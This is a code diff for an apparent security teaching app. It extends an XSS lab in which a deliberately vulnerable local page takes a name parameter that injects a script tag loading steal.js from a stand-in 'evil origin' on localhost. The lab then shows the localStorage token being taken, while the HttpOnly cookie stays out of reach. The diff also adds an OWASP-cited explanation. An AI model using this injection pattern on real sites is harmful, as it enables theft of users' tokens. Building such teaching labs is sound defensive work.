@@ -17,6 +17,8 @@ import { cookieLogin, demoAccount, signOutBoth } from './lab-actions.ts';
 import { askFramedPage, closeLabFrame, labFrameShows, openLabFrame } from './lab-frame.ts';
 import type { Evidence, Lab, LabContext } from './lab-types.ts';
 import { sessionCookieName } from '../api/session-cookie-name.ts';
+import { injectedScript } from './xss-attack-view.ts';
+import { XssPanel } from './XssPanel.tsx';
 
 /** The lab 5 site's origin as this window reaches it: its port, under this window's own host name (the same site). */
 function reachedAs(siteUrl: string): string {
@@ -49,7 +51,8 @@ async function siteTokenLogin(context: LabContext): Promise<string> {
 /** Opens the vulnerable page with the evil origin's script in its `name`. */
 async function inject(context: LabContext): Promise<void> {
   await siteOrigin(context);
-  const { url } = await api.lab.evilOrigin(context.labKey);
+  const { url, script } = await api.lab.evilOrigin(context.labKey);
+  injectedScript.set({ url: `${url}/steal.js`, source: script });
   const name = `<script src="${url}/steal.js"></script>`;
   await openLabFrame(`${XSS_FRAME_PATH}?name=${encodeURIComponent(name)}`);
 }
@@ -94,6 +97,13 @@ export const xssTheftLab: Lab = {
   goal:
     'A deliberately vulnerable site (the lab 5 site: this app on another loopback port, so another origin) keeps a token in its localStorage, as the token panel does here. ' +
     'Let a script from an evil origin (the attacker’s server, at localhost:<another port>: another site altogether) into its page and see what it can take: the token, which it replays from the page with success, but not the HttpOnly session cookie, which document.cookie never shows to a script.',
+  why: {
+    text: 'Any script that runs in a page reads its localStorage, so one XSS hole hands a stored token to an attacker who can use it from anywhere. An HttpOnly cookie cannot be read by the script (it can still be ridden while the page is open), which is why sensitive credentials are kept out of localStorage.',
+    source: {
+      label: 'OWASP HTML5 Security Cheat Sheet: local storage',
+      url: 'https://cheatsheetseries.owasp.org/cheatsheets/HTML5_Security_Cheat_Sheet.html#local-storage',
+    },
+  },
   steps: [
     {
       kind: 'action',
@@ -121,7 +131,7 @@ export const xssTheftLab: Lab = {
       id: 'inject',
       label: 'Open the vulnerable page with the injected script',
       run: inject,
-      explain: `GET ${XSS_PAGE_PATH}?name=<script src="http://localhost:<evil port>/steal.js"> on the lab 5 site, in a sandboxed hidden frame`,
+      explain: `GET ${XSS_PAGE_PATH}?name=<script src="http://localhost:<evil port>/steal.js"> on the lab 5 site: the page and the script it let in appear below`,
     },
     {
       kind: 'action',
@@ -190,7 +200,9 @@ export const xssTheftLab: Lab = {
       },
     },
   ],
+  panel: XssPanel,
   reset: async (context) => {
+    injectedScript.set(null);
     await closeSite(context);
     await api.lab.forgetLoot(context.labKey);
     await signOutBoth(context);
